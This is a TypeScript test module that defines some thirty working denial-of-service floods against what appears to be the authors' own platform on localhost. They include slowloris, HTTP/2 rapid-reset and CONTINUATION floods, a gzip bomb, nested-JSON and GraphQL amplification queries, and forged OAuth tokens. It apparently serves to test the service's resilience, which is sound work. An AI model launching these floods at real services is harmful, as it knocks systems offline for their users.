// The floods that one address can make, each until it is told to stop. What is cut off begins anew at once.
import { type ClientHttp2Session, constants } from 'node:http2'
import { gzipSync } from 'node:zlib'
import { ACKNOWLEDGED, frame, literal, post, PREFACE } from '../support/http2-frames.ts'
import { AGAIN_MS, type Aim, type Attack, connections, pour, requests, sessions } from './clients.ts'

const HOST = 'Host: localhost\r\n'

const JSON_TYPE = { 'content-type': 'application/json' }
const LIST_GROUPS = '/chainguard.platform.iam.v2.GroupsService/ListGroups'

/** Three parts that look like a token, of two thousand characters. */
function strangeToken(): string {
  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url')
  const claims = { iss: `https://${Math.random()}.example.com`, sub: 'a'.repeat(1_200), aud: 'a', iat: 1, exp: 4e9 }
  return `${part({ alg: 'ES256' })}.${part(claims)}.${'A'.repeat(86)}`
}

/** The same frame by the thousand. */
function frames(one: Buffer, before: readonly Buffer[] = []): Attack {
  const many = Buffer.concat(Array.from({ length: 1_000 }, () => one))
  return connections(10, (socket) => {
    socket.write(Buffer.concat([PREFACE, ...before]))
    pour(socket, many, 5)
  })
}

/** What makes the server reset a stream whose request is whole and at work: a window beyond what there can be. */
const TOO_WIDE = Buffer.from([0x7f, 0xff, 0xff, 0xff])
/** Ends a stream by the client's own word. */
const CANCEL = Buffer.from([0, 0, 0, 8])

/** Streams that are opened, and after each what `ends` it. */
function streams(ends?: (stream: number) => Buffer, opens = post): Attack {
  return connections(10, (socket) => {
    socket.write(PREFACE)
    let stream = -1
    const timer = setInterval(() => {
      if (socket.writableNeedDrain) return
      for (let left = 100; left > 0; left--) {
        stream += 2
        socket.write(opens(stream))
        if (ends) socket.write(ends(stream))
      }
    }, 5)
    socket.once('close', () => clearInterval(timer))
  })
}

/** What opens a stream of all that happens in an organization. */
const follow = ({ authorization, organization }: Aim): { headers: Record<string, string>; body: string } => {
  const query = 'subscription ($group: UID!) { events(group: $group) { type subject cursor } }'
  const headers = { ...JSON_TYPE, authorization, accept: 'text/event-stream' }
  return { headers, body: JSON.stringify({ query, variables: { group: organization } }) }
}

/** A head that names one header and repeats it, each time by an octet. */
const MANY_HEADERS = Buffer.concat([
  Buffer.from([0x83, 0x86, 0x84, 0x41, 1, 0x78, 0x40, 1, 0x61, 1, 0x62]),
  Buffer.alloc(60, 0xbe),
])
const manyHeaders = (stream: number): Buffer => frame(1, MANY_HEADERS, { flags: 5, stream })

/** Fifty streams of events at a time, which end as soon as they have begun. */
function followAndLeave(session: ClientHttp2Session, aim: Aim): void {
  const { headers, body } = follow(aim)
  const timer = setInterval(() => {
    for (let left = 50; left > 0 && !session.closed; left--) {
      const stream = session.request({ ':method': 'POST', ':path': '/graphql', ...headers })
      stream.on('error', () => undefined).end(body)
      setTimeout(() => stream.close(constants.NGHTTP2_CANCEL), AGAIN_MS).unref()
    }
  }, 2 * AGAIN_MS)
  session.once('close', () => clearInterval(timer))
}

function both(one: Attack, other: Attack): Attack {
  return (aim) => {
    const stops = [one(aim), other(aim)]
    return () => {
      for (const stop of stops) stop()
    }
  }
}

/** Writes of one's own, each of which all who follow are told. */
const writes = requests(4, ({ authorization, organization }) => ({
  method: 'PATCH',
  path: `/iam/v2/groups/${organization}`,
  headers: { ...JSON_TYPE, authorization },
  body: JSON.stringify({ description: `${'x'.repeat(400)} ${Math.random()}` }),
}))

/** A message of gRPC whose prefix tells of five megabytes. */
const LONG_MESSAGE = Buffer.concat([Buffer.from([0, 0, 0x50, 0, 0]), Buffer.alloc(64 * 1024)])
/** Opens a call of gRPC. */
function call(path: string): (stream: number) => Buffer {
  const type = literal('content-type', 'application/grpc')
  const head = [Buffer.from([0x83, 0x86]), literal(':path', path), literal(':authority', 'x'), type]
  return (stream) => frame(1, Buffer.concat(head), { flags: 4, stream })
}
/** Questions about the server itself. */
const reflection = call('/grpc.reflection.v1.ServerReflection/ServerReflectionInfo')
const watch = call('/grpc.health.v1.Health/Watch')
/** Which services there are, by the hundred. */
const LIST_SERVICES = frame(0, Buffer.from([0, 0, 0, 0, 2, 0x3a, 0]), { stream: 1 })
const QUESTIONS = Buffer.concat(Array.from({ length: 300 }, () => LIST_SERVICES))
const INTROSPECTION = `{ ${Array.from({ length: 25 }, (_, n) => `a${n}: __schema { types { name fields { name type { name } } } }`).join(' ')} }`
/** All that there is of a kind, by as many names as one question may have. */
const MANY_PAGES = `{ ${Array.from({ length: 25 }, (_, n) => `a${n}: roles(first: 200) { nodes { name description capabilities } }`).join(' ')} }`
/** The largest repos there may be, by the hundred; of one length or another, for equal questions are answered together. */
const largePage = (): string => `/registry/v2/repos?page_size=${200 - Math.floor(Math.random() * 100)}`
const LARGE_PAGES = `{ ${Array.from({ length: 10 }, (_, n) => `a${n}: repos(first: ${n + 40}) { edges { node { customOverlay { environment { name value } } } } }`).join(' ')} }`
/** Of 900 KB, with more members than JSON may have. */
const MANY_MEMBERS = JSON.stringify({ query: '{ __typename }', variables: { list: Array(450_000).fill(1) } })

export const attacks: Readonly<Record<string, Attack>> = {
  'connections that say nothing': connections(400, () => undefined),
  'heads by the byte': connections(200, (socket) => {
    socket.write('GET / HTTP/1.1\r\n')
    pour(socket, 'x', 200)
  }),
  'bodies by the byte': connections(200, (socket) => {
    socket.write(`POST /graphql HTTP/1.1\r\n${HOST}Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n`)
    pour(socket, ' ', 200)
  }),
  'requests sent ahead': connections(20, (socket) => {
    pour(socket, `GET /iam/v2/groups HTTP/1.1\r\n${HOST}\r\n`.repeat(100), 5)
  }),
  'requests that nobody waits for': requests(64, () => ({ path: '/iam/v2/groups', leaves: true })),
  'tokens of strange issuers': requests(64, () => ({
    path: '/iam/v2/groups',
    headers: { authorization: `Bearer ${strangeToken()}` },
  })),
  introspection: requests(32, () => ({
    method: 'POST',
    path: '/graphql',
    headers: JSON_TYPE,
    body: JSON.stringify({ query: INTROSPECTION }),
  })),
  'large answers of the graph': requests(64, ({ authorization }) => ({
    method: 'POST',
    path: '/graphql',
    headers: { ...JSON_TYPE, authorization },
    body: JSON.stringify({ query: MANY_PAGES }),
  })),
  'large pages': requests(64, ({ authorization }) => ({ path: largePage(), headers: { authorization } })),
  'large pages of gRPC': requests(64, ({ authorization }) => ({
    method: 'POST',
    path: '/chainguard.platform.registry.v2.ReposService/ListRepos',
    headers: { 'content-type': 'application/grpc-web+proto', authorization },
    body: Buffer.alloc(5),
  })),
  'large pages of the graph': requests(64, ({ authorization }) => ({
    method: 'POST',
    path: '/graphql',
    headers: { ...JSON_TYPE, authorization },
    body: JSON.stringify({ query: LARGE_PAGES }),
  })),
  'large pages that nobody reads': connections(380, (socket, { authorization }) => {
    socket.pause()
    socket.write(`GET ${largePage()} HTTP/1.1\r\n${HOST}authorization: ${authorization}\r\n\r\n`)
  }),
  'JSON of many members': requests(32, ({ authorization }) => ({
    method: 'POST',
    path: '/graphql',
    headers: { ...JSON_TYPE, authorization },
    body: MANY_MEMBERS,
  })),
  'nested JSON': requests(32, () => ({
    method: 'POST',
    path: '/graphql',
    headers: JSON_TYPE,
    body: `{"query":"{__typename}","variables":${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}}`,
  })),
  'bodies that are too long': requests(16, () => ({
    method: 'POST',
    path: '/oauth/token',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: Buffer.alloc(4 * 1024 * 1024, 'a'),
  })),
  'sign-ins that nobody ends': requests(64, () => ({ path: `/sign-in?email=${Math.random()}@example.com` })),
  'clients that register': requests(64, () => ({
    method: 'POST',
    path: '/oauth/register',
    headers: JSON_TYPE,
    body: JSON.stringify({
      client_name: 'c'.repeat(60),
      redirect_uris: Array.from({ length: 10 }, (_, n) => `https://${n}.example.com/${Math.random()}`),
    }),
  })),
  'refresh tokens that were made up': requests(64, () => ({
    method: 'POST',
    path: '/oauth/token',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: `grant_type=refresh_token&client_id=${'c'.repeat(500)}&refresh_token=${Math.random()}${'r'.repeat(500)}`,
  })),
  'messages that are too long': requests(16, () => ({
    method: 'POST',
    path: LIST_GROUPS,
    headers: { 'content-type': 'application/grpc' },
    body: LONG_MESSAGE,
  })),
  'bombs of gzip': requests(16, () => ({
    method: 'POST',
    path: LIST_GROUPS,
    headers: { ...JSON_TYPE, 'content-encoding': 'gzip' },
    body: BOMB,
  })),
  PING: frames(frame(6, Buffer.alloc(8))),
  SETTINGS: frames(frame(4, Buffer.alloc(0))),
  WINDOW_UPDATE: frames(frame(8, Buffer.from([0, 0, 0, 1]))),
  'DATA by the byte': frames(frame(0, Buffer.from('x'), { stream: 1 }), [post(1)]),
  'streams that stay open': streams(),
  'streams that are reset': streams((stream) => frame(3, CANCEL, { stream })),
  'streams that the server must reset': streams((stream) =>
    Buffer.concat([frame(0, Buffer.from('{}'), { stream, flags: 1 }), frame(8, TOO_WIDE, { stream })]),
  ),
  'watches that are reset': streams(
    (stream) => Buffer.concat([frame(0, Buffer.alloc(5), { stream, flags: 1 }), frame(3, CANCEL, { stream })]),
    watch,
  ),
  'questions to reflection': connections(10, (socket) => {
    socket.write(Buffer.concat([PREFACE, reflection(1)]))
    pour(socket, QUESTIONS, 5)
  }),
  'heads without an end': frames(frame(9, literal('x-a', 'a'.repeat(100)), { stream: 1 }), [
    frame(1, literal('x-a', 'a'), { stream: 1 }),
  ]),
  'bodies in crumbs': connections(50, (socket) => {
    socket.write(
      `POST /graphql HTTP/1.1\r\n${HOST}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`,
    )
    pour(socket, '1;a=b\r\n \r\n'.repeat(2_000), 5)
  }),
  'events that nobody reads': both(
    connections(900, (socket, aim) => {
      const { headers, body } = follow(aim)
      const lines = Object.entries({ ...headers, 'content-length': body.length }).map(
        ([name, value]) => `${name}: ${value}\r\n`,
      )
      socket.pause()
      socket.write(`POST /graphql HTTP/1.1\r\n${HOST}${lines.join('')}\r\n${body}`)
    }),
    writes,
  ),
  'streams of events that are reset': sessions(4, followAndLeave),
  'streams of many headers': connections(50, (socket) => {
    socket.write(PREFACE)
    // A connection that keeps the rules has all of its streams.
    socket.once('data', () => {
      const all = Array.from({ length: 100 }, (_, at) => manyHeaders(2 * at + 1))
      socket.write(Buffer.concat([ACKNOWLEDGED, ...all]))
    })
  }),
}

const BOMB = gzipSync(Buffer.alloc(16 * 1024 * 1024))
